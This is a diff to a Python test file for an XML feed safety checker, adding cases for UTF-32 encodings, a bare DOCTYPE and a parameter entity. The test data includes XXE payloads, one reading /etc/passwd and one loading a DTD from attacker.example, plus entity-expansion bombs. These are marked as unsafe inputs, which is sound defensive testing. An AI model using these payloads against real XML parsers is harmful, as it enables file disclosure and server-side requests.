@@ -20,6 +20,9 @@ SAFETY = [
     (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', True),
     (b"<rss><![CDATA[ the text <!ENTITY is quoted here ]]></rss>", False),  # not a declaration
     (b"<rss><!ENTITY broken", False),  # broken XML is left to the feed parser
+    (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss/>', True),  # parameter entity
+    (("<?xml version='1.0' encoding='utf-32'?>" + BOMB.decode()).encode("utf-32"), True),
+    (b'<!DOCTYPE rss><rss version="2.0"><channel/></rss>', False),  # a DOCTYPE declaring nothing
 ]
 
 
@@ -41,6 +44,8 @@ PARSE = [
     (b'<?xml version="1.0" encoding="base64"?><a/>', ParseError),
     (b'<?xml version="1.0" encoding="gbk"?>' + BOMB, UnsafeXml),  # transcoded, still refused
     (b"<a>\x00</a>", ParseError),
+    ('<?xml version="1.0" encoding="utf-32"?><urlset>中文</urlset>'.encode("utf-32"), ("urlset", "中文")),
+    ('<urlset>中文</urlset>'.encode("utf-32"), ("urlset", "中文")),  # a BOM, no declaration
 ]
 
 
